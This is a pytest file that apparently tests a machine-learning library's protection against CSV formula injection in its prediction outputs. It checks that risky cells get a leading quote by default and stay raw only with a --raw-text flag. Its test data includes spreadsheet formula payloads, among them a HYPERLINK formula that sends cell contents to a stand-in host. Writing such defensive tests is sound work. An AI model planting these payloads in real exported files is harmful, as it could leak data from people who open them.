"""Predictions CSVs hold class labels and ids from the sites' data: a text cell a spreadsheet would run as a formula
(= + - @, a tab, a carriage return first; OWASP's CSV injection list) is written with a leading ' by default, a
number (-1.5 too) as it is; raw_text / --raw-text writes every cell as it is. scripts/predict.py, and the vertical
prediction run's CSV at the active site."""

from __future__ import annotations

import importlib

import csv
import types

import numpy as np
import pandas as pd
import pytest


from test_predict import xgb_model
from treeflare.data import load_csv
from treeflare.data.schema import Feature, Schema
from treeflare.prediction import predict_csv
from treeflare.files import csv_text, spreadsheet_safe

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "-cmd", "@SUM(A1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1.5", "3", "-2", "-1e-05", "0.25", "abc", "", "a=b", "'=x", 3, -1.5, None])
def test_numbers_and_plain_text_stay_as_they_are(cell):
    assert spreadsheet_safe(cell) == cell


def test_non_finite_and_signed_number_spellings_are_text():
    assert spreadsheet_safe("-inf") == "'-inf"
    assert spreadsheet_safe("-1e999") == "'-1e999"  # no finite number
    assert spreadsheet_safe("+3") == "'+3"


def read_cells(text: str) -> list[list[str]]:
    return list(csv.reader(text.splitlines(keepends=True)))


def test_csv_text_neutralises_text_cells_and_names_not_numbers():
    frame = pd.DataFrame({"=id": ["-cmd", "-7", "r1"], "predicted": ["@SUM(A1)", "a", "+1"],
                          "p_a": [0.5, -1.5, 1.0]})
    rows = read_cells(csv_text(frame))
    assert rows[0] == ["'=id", "predicted", "p_a"]
    assert rows[1:] == [["'-cmd", "'@SUM(A1)", "0.5"], ["-7", "a", "-1.5"], ["r1", "'+1", "1.0"]]
    raw = read_cells(csv_text(frame, raw_text=True))
    assert raw == read_cells(frame.to_csv(index=False))
    assert raw[1] == ["-cmd", "@SUM(A1)", "0.5"]


# ------------------------------------------------------------------------------------------------ predict.py
LABELS = ['=HYPERLINK("http://x.example","a")', "-cmd", "@SUM(A1)"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """An XGBoost model whose classes start with = - @, and new rows whose ids do (and a genuine -1.5)."""
    tmp = tmp_path_factory.mktemp("inject")
    rng = np.random.default_rng(0)
    n = 300
    x0 = rng.normal(size=n)
    y = np.asarray(LABELS, dtype=object)[np.digitize(x0, [-0.4, 0.4])]
    pd.DataFrame({"id": [f"r{i}" for i in range(n)], "x0": x0.round(4), "label": y}).to_csv(tmp / "train.csv",
                                                                                         index=False)
    train = load_csv(tmp / "train.csv", label="label", id_column="id")
    assert set(train.schema.classes) == set(LABELS)
    xgb_model(train, tmp / "model.json")
    ids = ["=1+1", "-1.5", "+cmd", "@x", "plain"]  # ids are read stripped: no tab first
    pd.DataFrame({"id": ids, "x0": [-2.0, 0.0, 2.0, 0.1, -0.1]}).to_csv(tmp / "new.csv", index=False)
    return tmp, ids


def test_predictions_csv_is_safe_by_default_and_raw_on_request(hostile):
    tmp, ids = hostile
    predict_csv(tmp / "model.json", tmp / "new.csv", tmp / "safe.csv")
    predict_csv(tmp / "model.json", tmp / "new.csv", tmp / "raw.csv", raw_text=True)
    safe = read_cells((tmp / "safe.csv").read_text())
    raw = read_cells((tmp / "raw.csv").read_text())
    header = safe[0]
    assert header[:2] == ["id", "predicted"] and raw[0] == header  # p_=HYPERLINK... starts with "p_"
    assert [r[0] for r in raw[1:]] == ids
    assert [r[0] for r in safe[1:]] == ["'=1+1", "-1.5", "'+cmd", "'@x", "plain"]
    assert {r[1] for r in raw[1:]} <= set(LABELS) and len({r[1] for r in raw[1:]}) > 1
    assert [r[1] for r in safe[1:]] == ["'" + r[1] for r in raw[1:]]
    for s, r in zip(safe[1:], raw[1:]):
        assert s[2:] == r[2:] and all(float(p) >= 0 for p in s[2:])  # probabilities untouched


def test_script_has_a_raw_text_flag_that_warns(hostile, capsys):
    tmp, _ = hostile
    script = importlib.import_module("treeflare.tools.predict")
    help_text = " ".join(script.build_parser().format_help().split())
    assert "--raw-text" in help_text and "MAY RUN AS FORMULAS" in help_text
    base = ["--model", str(tmp / "model.json"), "--csv", str(tmp / "new.csv"), "--out"]
    assert script.main(base + [str(tmp / "s.csv")]) == 0
    assert script.main(base + [str(tmp / "r.csv"), "--raw-text"]) == 0
    assert read_cells((tmp / "s.csv").read_text())[1][0] == "'=1+1"
    assert read_cells((tmp / "r.csv").read_text())[1][0] == "=1+1"


# ------------------------------------------------------------------------------------------------ vertical
def _done(tmp_path, raw_text: bool, model: dict, pred, score, classes):
    from treeflare.flare.vertical.executor import PREDICTIONS, VerticalExecutor

    ex = VerticalExecutor(raw_text=raw_text)
    ex._run_dir = lambda fl_ctx: tmp_path
    ex.own_schema = Schema((Feature("x", "numeric"),), "label", tuple(classes), "=id")
    a = types.SimpleNamespace(row_ids=["=1+1", "-3", "@x"], pred=pred, score=score, model=model, n=3,
                              trees=[{}], passives=["site-2"], comm={"messages_to_passive": 1, "messages_to_active": 1},
                              timings={})
    ex._predictions_done(a, None)
    return read_cells((tmp_path / PREDICTIONS).read_text())


def test_vertical_predictions_csv_is_safe_by_default(tmp_path):
    model = {"model": "tree", "format": "x"}
    score = np.array([[0.9, 0.1], [0.2, 0.8], [0.6, 0.4]])
    safe = _done(tmp_path, False, model, [0, 1, 0], score, ["-a", "b"])
    assert safe[0] == ["'=id", "predicted", "p_-a", "p_b"]
    assert [r[:2] for r in safe[1:]] == [["'=1+1", "'-a"], ["-3", "b"], ["'@x", "'-a"]]
    raw = _done(tmp_path, True, model, [0, 1, 0], score, ["-a", "b"])
    assert raw[0][0] == "=id" and [r[:2] for r in raw[1:]] == [["=1+1", "-a"], ["-3", "b"], ["@x", "-a"]]
    # a regression's predictions are numbers, negative ones too: written as they are
    reg = _done(tmp_path, False, {"model": "gbdt", "objective": "squared_error"}, [-1.5, 2.0, -0.25], None, [])
    assert [r[1] for r in reg[1:]] == ["-1.5", "2.0", "-0.25"]


def test_vertical_job_takes_raw_text_with_predict_only(tmp_path):
    job = importlib.import_module("treeflare.jobs.vertical_tree")
    args = job.parse_args(["--predict", str(tmp_path), "--raw-text", "--workspace", str(tmp_path / "w")])
    assert args.raw_text is True
    with pytest.raises(SystemExit):
        job.parse_args(["--raw-text", "--workspace", str(tmp_path / "w")])
